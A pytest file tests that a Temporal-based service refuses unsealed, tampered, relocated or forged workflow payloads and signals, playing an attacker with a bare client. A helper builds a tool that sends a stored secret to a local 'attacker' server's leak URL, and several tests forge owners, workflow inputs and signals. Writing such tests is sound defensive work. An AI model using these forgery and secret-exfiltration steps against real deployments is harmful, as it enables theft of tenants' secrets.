"""Sealing is authentication: with MINT_ENCRYPTION_KEY set, a payload no key sealed never becomes a value.

Whoever reaches Temporal can start workflows and send signals with a bare `temporalio` client; these tests
are that attacker, against a running stack: a forged owner gets no tenant's secret, a forged signal does
not stop the execution it was sent to, and a sealed payload pasted into another workflow is refused too.
"""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest
from temporalio.api.common.v1 import Payload
from temporalio.client import Client, WorkflowFailureError
from temporalio.common import RawValue
from temporalio.converter import ActivitySerializationContext, WorkflowSerializationContext
from temporalio.exceptions import ApplicationError

from infra.store.crypto import UnknownKeyError
from infra.temporal.client import connect_temporal
from infra.temporal.payload_codec import (
    ENCRYPTED,
    REFUSED,
    WORKFLOW_ID,
    EncryptionCodec,
    MintPayloadConverter,
)
from tests.conftest import temporal_address
from tests.helpers import create_agent, create_task, start, transitions, wait_for_status
from tests.local_http import LocalServer
from tests.stack import TEST_ENCRYPTION_KEY

CANARY = "canary-secret-forged-owner-4d1f"
OLD_KEY, NEW_KEY = "old-key-" + "o" * 32, "new-key-" + "n" * 32
JSON = Payload(metadata={"encoding": b"json/plain"}, data=b'{"owner": "someone"}')


def _for(workflow_id: str) -> WorkflowSerializationContext:
    return WorkflowSerializationContext(namespace="default", workflow_id=workflow_id)


async def _roundtrip(sealer: EncryptionCodec, opener: EncryptionCodec) -> Payload:
    (sealed,) = await sealer.encode([JSON])
    (opened,) = await opener.decode([sealed])
    return opened


def _refusal(payload: Payload) -> ApplicationError:
    assert payload.metadata["encoding"] == REFUSED
    with pytest.raises(ApplicationError) as refused:
        MintPayloadConverter().from_payloads([payload])
    return refused.value


async def test_a_plain_payload_is_refused_and_its_conversion_fails_for_good():
    (opened,) = await EncryptionCodec((TEST_ENCRYPTION_KEY,)).decode([JSON])
    error = _refusal(opened)
    assert error.type == "UnsealedPayload" and error.non_retryable and "not sealed" in error.message


async def test_a_payload_opens_only_for_the_workflow_it_was_sealed_for():
    codec = EncryptionCodec((TEST_ENCRYPTION_KEY,))
    assert await _roundtrip(codec.with_context(_for("a")), codec.with_context(_for("a"))) == JSON
    # An activity of workflow `a` belongs to it too.
    activity = ActivitySerializationContext(
        namespace="default",
        activity_id="1",
        activity_type="call_api",
        activity_task_queue="q",
        workflow_id="a",
        workflow_type="TaskExecutionWorkflow",
        is_local=False,
    )
    assert await _roundtrip(codec.with_context(_for("a")), codec.with_context(activity)) == JSON
    assert (
        "sealed for workflow 'a'"
        in _refusal(await _roundtrip(codec.with_context(_for("a")), codec.with_context(_for("b")))).message
    )
    # The codec server has no workflow: it opens for the workflow the payload names.
    assert await _roundtrip(codec.with_context(_for("a")), codec) == JSON


async def test_the_workflow_a_payload_names_cannot_be_changed_or_removed():
    codec = EncryptionCodec((TEST_ENCRYPTION_KEY,))
    (sealed,) = await codec.with_context(_for("a")).encode([JSON])
    assert sealed.metadata[WORKFLOW_ID] == b"a"
    for names in (b"b", None):
        moved = Payload()
        moved.CopyFrom(sealed)
        if names is None:
            del moved.metadata[WORKFLOW_ID]
        else:
            moved.metadata[WORKFLOW_ID] = names
        (opened,) = await codec.with_context(_for(names.decode() if names else "b")).decode([moved])
        assert "does not authenticate" in _refusal(opened).message


async def test_tampered_ciphertext_is_refused_and_an_unknown_key_is_an_error_to_fix():
    codec = EncryptionCodec((TEST_ENCRYPTION_KEY,))
    (sealed,) = await codec.encode([JSON])
    tampered = Payload(metadata=dict(sealed.metadata), data=sealed.data[:-1] + bytes([sealed.data[-1] ^ 1]))
    assert "does not authenticate" in _refusal((await codec.decode([tampered]))[0]).message
    # A process without the key that sealed a payload is misconfigured: raising fails the workflow task, which
    # Temporal retries until the key is deployed, instead of failing executions for good.
    with pytest.raises(UnknownKeyError):
        await EncryptionCodec((NEW_KEY,)).decode([sealed])


async def test_rotation_keeps_old_payloads_and_payloads_sealed_before_binding_open():
    old = EncryptionCodec((OLD_KEY,))
    rotated = EncryptionCodec((NEW_KEY, OLD_KEY))
    assert await _roundtrip(old.with_context(_for("a")), rotated.with_context(_for("a"))) == JSON
    (sealed,) = await rotated.encode([JSON])
    assert sealed.data[2:6] != (await old.encode([JSON]))[0].data[2:6]  # the first key seals
    # Ciphertext from before payloads were bound to a workflow (no id) still opens in a running execution.
    assert await _roundtrip(old, rotated.with_context(_for("a"))) == JSON


# Live: a bare Temporal client against a running stack -----------------------------------------------


async def _bare_client(temporal_env) -> Client:
    """What anyone who reaches Temporal's port has: no Mint key, the SDK's default converter."""
    return await Client.connect(temporal_address(temporal_env))


async def _refused_result(handle) -> ApplicationError:
    """The forged workflow's failure: the worker refused its input. (Had it run, its result would be
    sealed, and the bare client could not even read it.)"""
    with pytest.raises(WorkflowFailureError) as failed:
        await handle.result()
    cause = failed.value.cause
    assert isinstance(cause, ApplicationError) and cause.type == "UnsealedPayload", cause
    return cause


def _leak_tool(url: str) -> dict[str, Any]:
    api_call = {"method": "GET", "url": url + "leak", "headers": {"X-Key": "{{ secrets.CANARY_KEY }}"}}
    return {"name": "leak", "type": "api_call", "api_call": api_call}


async def _victim(api, store, api_key) -> str:
    assert (await api.post("/secrets", json={"name": "CANARY_KEY", "value": CANARY})).status_code == 201
    return str(await store.developer_for_key(api_key))


async def test_a_bare_client_cannot_run_a_tool_as_another_developer(api, api_key, store, stack, temporal_env):
    victim = await _victim(api, store, api_key)
    with LocalServer() as attacker:
        request = {"owner": {"developer_id": victim, "agent_id": None}, "tool": _leak_tool(attacker.url)}
        request["arguments"] = {}
        queue = stack.settings.task_queue
        # The same request, sealed by a holder of the key, does reach the secret: the forgery is a real one.
        sealed = await connect_temporal(
            temporal_address(temporal_env), store.pool, encryption_keys=(TEST_ENCRYPTION_KEY,)
        )
        await sealed.execute_workflow(
            "RunToolWorkflow", request, id=f"sealed-{uuid.uuid4()}", task_queue=queue
        )
        assert [r.headers["X-Key"] for r in attacker.requests] == [CANARY]
        bare = await _bare_client(temporal_env)
        handle = await bare.start_workflow(
            "RunToolWorkflow", request, id=f"forged-{uuid.uuid4()}", task_queue=queue
        )
        assert "not sealed" in (await _refused_result(handle)).message
        assert len(attacker.requests) == 1  # the forged call never went out


async def test_a_bare_client_cannot_start_an_execution_for_another_developer(
    api, api_key, store, stack, temporal_env
):
    victim = await _victim(api, store, api_key)
    with LocalServer() as attacker:
        # A waiting execution of the victim's, whose tools include one that would send the secret out.
        task = {
            "name": "waits",
            "tools": [_leak_tool(attacker.url)],
            "main": [{"wait_for_input": {"info": {}}}],
        }
        created = await create_task(api, (await create_agent(api))["id"], task)
        waiting = await start(api, created["id"])
        await wait_for_status(api, waiting["id"], {"awaiting_input"})
        params = await _started_input(temporal_env, waiting["id"])
        assert params["developer_id"] == victim
        params["task"]["main"] = [{"tool": "leak", "arguments": {}}]  # the forger's own steps
        bare = await _bare_client(temporal_env)
        handle = await bare.start_workflow(
            "TaskExecutionWorkflow", params, id=str(uuid.uuid4()), task_queue=stack.settings.task_queue
        )
        await _refused_result(handle)
        assert attacker.requests == []
    after = await transitions(api, waiting["id"])
    assert [t["type"] for t in after] == ["init", "wait"]


async def test_a_forged_signal_is_dropped_and_the_execution_carries_on(api, api_key, store, temporal_env):
    developer = str(await store.developer_for_key(api_key))
    task = {"name": "asks", "main": [{"wait_for_input": {"info": {}}}, {"return": {"answer": "$ _"}}]}
    created = await create_task(api, (await create_agent(api))["id"], task)
    execution = await start(api, created["id"])
    await wait_for_status(api, execution["id"], {"awaiting_input"})
    wait_seq = (await store.open_waits(developer, execution["id"]))[0].seq
    forged = {"wait_seq": wait_seq, "input": {"from": "forger"}}
    await (await _bare_client(temporal_env)).get_workflow_handle(execution["id"]).signal("resume", forged)
    resumed = await api.put(
        f"/executions/{execution['id']}", json={"status": "running", "input": {"from": "api"}}
    )
    assert resumed.status_code == 200, resumed.text
    done = await wait_for_status(api, execution["id"])
    assert done["status"] == "succeeded" and done["output"] == {"answer": {"from": "api"}}, done


async def test_a_sealed_payload_pasted_into_another_workflow_is_refused(store, stack, temporal_env):
    with LocalServer() as server:
        tool = {"name": "ping", "type": "api_call", "api_call": {"method": "GET", "url": server.url}}
        request = {
            "owner": {"developer_id": str(uuid.uuid4()), "agent_id": None},
            "tool": tool,
            "arguments": {},
        }
        sealed = await connect_temporal(
            temporal_address(temporal_env), store.pool, encryption_keys=(TEST_ENCRYPTION_KEY,)
        )
        original = f"original-{uuid.uuid4()}"
        await sealed.execute_workflow(
            "RunToolWorkflow", request, id=original, task_queue=stack.settings.task_queue
        )
        history = await temporal_env.client.get_workflow_handle(original).fetch_history()
        (payload,) = history.events[0].workflow_execution_started_event_attributes.input.payloads
        assert payload.metadata["encoding"] == ENCRYPTED
        bare = await _bare_client(temporal_env)
        handle = await bare.start_workflow(
            "RunToolWorkflow",
            RawValue(payload),
            id=f"pasted-{uuid.uuid4()}",
            task_queue=stack.settings.task_queue,
        )
        assert f"sealed for workflow {original!r}" in (await _refused_result(handle)).message
        assert len(server.requests) == 1


async def _started_input(temporal_env, workflow_id: str) -> dict[str, Any]:
    """The execution's start input, opened with the test key (the forger only needs its shape)."""
    history = await temporal_env.client.get_workflow_handle(workflow_id).fetch_history()
    (payload,) = history.events[0].workflow_execution_started_event_attributes.input.payloads
    (opened,) = await EncryptionCodec((TEST_ENCRYPTION_KEY,)).decode([payload])
    return json.loads(opened.data)
